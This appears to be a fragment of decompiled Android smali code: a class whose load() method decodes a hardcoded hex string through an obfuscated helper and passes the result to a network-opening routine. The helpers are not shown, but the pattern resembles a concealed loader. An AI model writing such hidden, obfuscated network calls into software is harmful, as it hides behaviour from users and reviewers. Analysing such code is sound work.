.class public Lf3/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "6b7e65686c1c021b5d2d2e63792d0d030354f5edfce2b2d2989dd0b4a2a3a6"
    invoke-static {v0}, Lf3/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lf3/Net;->open(Ljava/lang/String;)V
    return-void
.end method

